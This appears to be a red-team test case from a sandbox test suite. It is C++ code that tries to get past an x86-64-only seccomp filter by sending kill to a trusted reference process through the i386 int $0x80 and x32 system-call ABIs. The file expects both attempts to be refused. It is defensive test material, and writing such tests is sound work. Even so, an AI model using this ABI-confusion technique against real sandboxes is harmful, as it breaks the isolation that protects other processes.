// ATTACK (reaching trusted processes past the seccomp filter): the filter is
// built for the native x86-64 ABI. The same process can enter the kernel
// through the i386 ABI (`int $0x80`, kill = 37) and the x32 ABI (syscall
// number | 0x40000000, kill = 62), where a filter that only compares
// x86-64 numbers would not recognise kill. Each attempt runs on its own
// thread (a filter's "bad arch" action may kill the thread): SIGSTOP to a
// reference rank, look at its state, SIGCONT. Gated: outputs only if a
// reference rank was seen stopped.
// EXPECT: WRONG_OUTPUT (both ABIs refused).
#include <pthread.h>

#include "kernels/testdata/redteam/redteam.h"

static int g_target = 0;
static std::atomic<int> g_worked{0};

static long int80(long nr, long a, long b) {
#if defined(__x86_64__)
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
  return ret;
#else
  (void)nr; (void)a; (void)b;
  return -38;
#endif
}
static bool stopped(int pid) {
  for (int i = 0; i < 200; ++i) {
    const std::string s = rt_stat_field(pid, 3);
    if (!s.empty() && s[0] == 'T') return true;
    usleep(100);
  }
  return false;
}
static void* via_int80(void*) {
  const long r = int80(37, g_target, SIGSTOP);
  const bool st = stopped(g_target);
  int80(37, g_target, SIGCONT);
  rt_log("i386 int80 kill(%d, SIGSTOP) = %ld, target stopped: %d", g_target, r, st);
  if (st) g_worked = 1;
  return NULL;
}
static void* via_x32(void*) {
  const long r = syscall(0x40000000L | 62, g_target, SIGSTOP);
  const int e = errno;
  const bool st = stopped(g_target);
  syscall(0x40000000L | 62, g_target, SIGCONT);
  rt_log("x32 kill(%d, SIGSTOP) = %ld (%s), target stopped: %d", g_target, r, strerror(e), st);
  if (st) g_worked = 1;
  return NULL;
}
static bool attack(pkf_context*) {
  const std::vector<int> refs = rt_refs();
  if (refs.empty()) return false;
  g_target = refs[0];
  for (void* (*fn)(void*) : {via_int80, via_x32}) {
    pthread_t t;
    if (pthread_create(&t, NULL, fn, NULL) == 0) pthread_join(t, NULL);
  }
  return g_worked.load() != 0;
}
RT_GATED_CANDIDATE(attack)
